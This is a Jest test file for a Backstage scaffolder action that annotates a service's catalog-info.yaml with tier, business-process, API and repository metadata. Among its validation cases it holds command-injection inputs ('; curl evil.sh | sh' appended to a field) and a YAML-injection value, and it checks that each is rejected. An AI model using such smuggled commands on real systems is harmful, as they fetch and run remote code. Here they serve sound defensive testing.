import {
  createMockDirectory,
  mockCredentials,
} from '@backstage/backend-test-utils';
import { catalogServiceMock } from '@backstage/plugin-catalog-node/testUtils';
import { createMockActionContext } from '@backstage/plugin-scaffolder-node-test-utils';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'yaml';
import {
  readBusinessProcesses,
  WAYBILL_ANNOTATIONS,
} from '@waybill/plugin-waybill-common';
import { testDomains } from '../__testUtils__/businessProcesses';
import { createAnnotateCatalogAction } from './annotateCatalog';

const CATALOG = `# The service's catalog entity
apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: pricing-quotes-api
  description: Quotes contract prices.
spec:
  type: service
  lifecycle: experimental
  owner: digital-channels
  dependsOn:
    - component:sales
`;

describe('waybill:catalog:annotate', () => {
  const workspace = createMockDirectory();
  // The demo's business processes, one of another estate's namespace, and a Domain of another type.
  const catalog = catalogServiceMock({ entities: testDomains() });
  const action = createAnnotateCatalogAction({ catalog });

  const run = async (input: Record<string, unknown>, catalogInfo = CATALOG) => {
    workspace.setContent({ 'catalog-info.yaml': catalogInfo });
    const ctx = createMockActionContext({
      workspacePath: workspace.path,
      input: input as any,
    });
    await action.handler(ctx);
    const text = fs.readFileSync(
      path.join(workspace.path, 'catalog-info.yaml'),
      'utf8',
    );
    return { ctx, text, entity: parse(text) };
  };

  const base = {
    name: 'pricing-quotes-api',
    tier: 'critical',
    // As the form's entity picker writes them.
    businessProcesses: [
      'domain:default/order-to-cash',
      'domain:default/inventory-allocation',
    ],
  };

  it('writes the conventions and keeps the rest of the file', async () => {
    const { ctx, text, entity } = await run({
      ...base,
      apiRequirements: [
        { api: 'sales-orders-api', range: '^2.4.0' },
        { api: 'inventory-availability-api', range: '>=3.0.0 <4.0.0' },
      ],
      dependsOn: ['component:sales', 'resource:pricing-db'],
      system: 'customer-channels',
    });
    expect(text.startsWith("# The service's catalog entity")).toBe(true);
    expect(entity.metadata.annotations).toEqual({
      'waybill.dev/tier': 'critical',
      'waybill.dev/business-processes': 'order-to-cash, inventory-allocation',
      'waybill.dev/api-requirements':
        'sales-orders-api ^2.4.0; inventory-availability-api >=3.0.0 <4.0.0',
      // Tenant rollouts reads the service's strategy from the file this names.
      [WAYBILL_ANNOTATIONS.rolloutStrategy]: './waybill/rollout-strategy.yaml',
    });
    expect(entity.spec.consumesApis).toEqual([
      'sales-orders-api',
      'inventory-availability-api',
    ]);
    expect(entity.spec.dependsOn).toEqual([
      'component:sales',
      'resource:pricing-db',
    ]);
    expect(entity.spec.system).toBe('customer-channels');
    expect(ctx.output).toHaveBeenCalledWith(
      'entityRef',
      'component:default/pricing-quotes-api',
    );
  });

  it('takes any business process the catalog holds, by ref or name, as the person running the template sees it', async () => {
    const lookup = jest.spyOn(catalog, 'getEntitiesByRefs');
    const { entity } = await run({
      ...base,
      businessProcesses: [
        'domain:logistics/yard-management',
        'Record-To-Report',
        'domain:default/order-to-cash',
      ],
    });
    expect(
      entity.metadata.annotations[WAYBILL_ANNOTATIONS.businessProcesses],
    ).toBe('domain:logistics/yard-management, record-to-report, order-to-cash');
    // waybill-common reads back the refs the catalog was asked about.
    const refs = [
      'domain:logistics/yard-management',
      'domain:default/record-to-report',
      'domain:default/order-to-cash',
    ];
    expect(readBusinessProcesses(entity)).toEqual({ refs, invalid: [] });
    expect(lookup).toHaveBeenCalledWith(
      expect.objectContaining({ entityRefs: refs }),
      { credentials: mockCredentials.user() },
    );
    lookup.mockRestore();
  });

  it('writes names of its own namespace for an entity outside the default namespace', async () => {
    const { entity } = await run(
      {
        ...base,
        businessProcesses: [
          'domain:logistics/yard-management',
          'domain:default/order-to-cash',
        ],
      },
      CATALOG.replace(
        'name: pricing-quotes-api\n',
        'name: pricing-quotes-api\n  namespace: logistics\n',
      ),
    );
    expect(
      entity.metadata.annotations[WAYBILL_ANNOTATIONS.businessProcesses],
    ).toBe('yard-management, domain:default/order-to-cash');
    expect(readBusinessProcesses(entity).refs).toEqual([
      'domain:logistics/yard-management',
      'domain:default/order-to-cash',
    ]);
  });

  it('refuses business processes the catalog does not hold, naming each, and writes nothing', async () => {
    await expect(
      run({
        ...base,
        businessProcesses: [
          'domain:default/order-to-cash',
          'domain:default/world-domination',
          'domain:default/customer-experience',
        ],
      }),
    ).rejects.toThrow(
      'businessProcesses: domain:default/world-domination is not in the catalog; domain:default/customer-experience is a Domain of spec.type product-area, not a business process (business processes are catalog Domains of spec.type business-process)',
    );
    expect(
      fs.readFileSync(path.join(workspace.path, 'catalog-info.yaml'), 'utf8'),
    ).toBe(CATALOG);
  });

  it.each([
    [{ tier: 'gold' }, 'tier'],
    [{ businessProcesses: [] }, 'at least one business process'],
    [
      {
        businessProcesses: ['order-to-cash', 'domain:default/Order-To-Cash'],
      },
      'must not repeat',
    ],
    [
      { businessProcesses: ['component:default/order-to-cash'] },
      'businessProcesses.0: must be a Domain ref',
    ],
    [
      { businessProcesses: ['order-to-cash; curl evil.sh | sh'] },
      'businessProcesses.0: must be a Domain ref',
    ],
    // Tenants join a service through their own spec.dependsOn; nothing reads such annotations.
    [
      { tenants: ['resource:acme'] },
      "Unrecognized key(s) in object: 'tenants'",
    ],
    [{ dependsOn: ['component:sales\nkind: Group'] }, 'dependsOn.0'],
    [
      { apiRequirements: [{ api: 'sales-orders-api', range: 'latest' }] },
      'must be a semver range',
    ],
    [{ name: 'other-service' }, 'has no Component named other-service'],
  ])('rejects %o', async (override, message) => {
    await expect(run({ ...base, ...override })).rejects.toThrow(message);
  });

  it('names the repository its pipelines may report from, per CI provider', async () => {
    const github = await run({
      ...base,
      repository: 'meridian/pricing-quotes-api',
    });
    expect(github.entity.metadata.annotations['github.com/project-slug']).toBe(
      'meridian/pricing-quotes-api',
    );
    const gitlab = await run({
      ...base,
      repository: 'erp/pricing/pricing-quotes-api',
      ciProvider: 'gitlab-ci',
    });
    expect(gitlab.entity.metadata.annotations).toMatchObject({
      'gitlab.com/project-slug': 'erp/pricing/pricing-quotes-api',
    });
    expect(
      gitlab.entity.metadata.annotations['github.com/project-slug'],
    ).toBeUndefined();
    await expect(
      run({ ...base, repository: 'meridian/x; curl evil.sh | sh' }),
    ).rejects.toThrow(/repository: must be owner\/name/);
  });

  it('refuses a catalog file the catalog would reject', async () => {
    await expect(
      run(base, CATALOG.replace('owner: digital-channels', 'owner: 42')),
    ).rejects.toThrow('not a valid');
  });

  it('refuses a missing catalog file', async () => {
    workspace.setContent({});
    const ctx = createMockActionContext({
      workspacePath: workspace.path,
      input: base as any,
    });
    await expect(action.handler(ctx)).rejects.toThrow(
      'catalog-info.yaml does not exist',
    );
  });
});
